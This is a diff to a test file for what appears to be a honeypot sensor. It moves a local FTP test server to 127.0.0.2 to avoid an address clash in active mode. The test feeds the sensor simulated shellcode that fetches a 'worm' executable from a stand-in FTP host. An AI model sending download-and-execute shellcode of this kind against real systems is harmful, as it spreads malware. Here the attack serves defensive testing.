@@ -117,8 +117,11 @@ class HttpServer:
 
 
 class FtpServer:
-    """pyftpdlib on 127.0.0.1 with one user; mode "active" refuses
-    PASV/EPSV, "passive" refuses PORT/EPRT.  Records the data commands."""
+    """pyftpdlib on 127.0.0.2 with one user; mode "active" refuses
+    PASV/EPSV, "passive" refuses PORT/EPRT.  Records the data commands.
+    On 127.0.0.2, so that the sensor's end of the control connection
+    (127.0.0.1, where active mode's data port listens) is not the
+    server's address."""
 
     def __init__(self, root, port, user, password, mode):
         from pyftpdlib.authorizers import DummyAuthorizer
@@ -146,7 +149,7 @@ class FtpServer:
 
         Handler.authorizer = auth
         Handler.permit_privileged_ports = True
-        self.server = FTPServer(("127.0.0.1", port), Handler)
+        self.server = FTPServer(("127.0.0.2", port), Handler)
         self.thread = threading.Thread(target=self.server.serve_forever,
                                        kwargs={"timeout": 0.1}, daemon=True)
         self.thread.start()
@@ -247,7 +250,7 @@ def test_ftp_download(sundew, tmp_path, mode):
     ftp = FtpServer(root, FTP_PORT, "worm", "s3cret", mode)
     try:
         d = sundew([f"download.connect_to=ftp.example.org:21:"
-                    f"127.0.0.1:{FTP_PORT}"])
+                    f"127.0.0.2:{FTP_PORT}"])
         url = "ftp://worm:s3cret@ftp.example.org/w.exe"
         s = attack(url_shellcode(url), "127.0.0.23")
         session = session_of(d, "127.0.0.23")
